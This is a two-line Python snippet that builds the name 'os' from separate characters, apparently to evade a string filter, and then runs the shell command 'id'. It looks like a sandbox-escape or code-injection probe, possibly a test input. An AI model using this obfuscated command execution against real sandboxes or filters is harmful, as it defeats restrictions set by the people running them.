mod = __import__(''.join(['o', 's']))
mod.system('id')
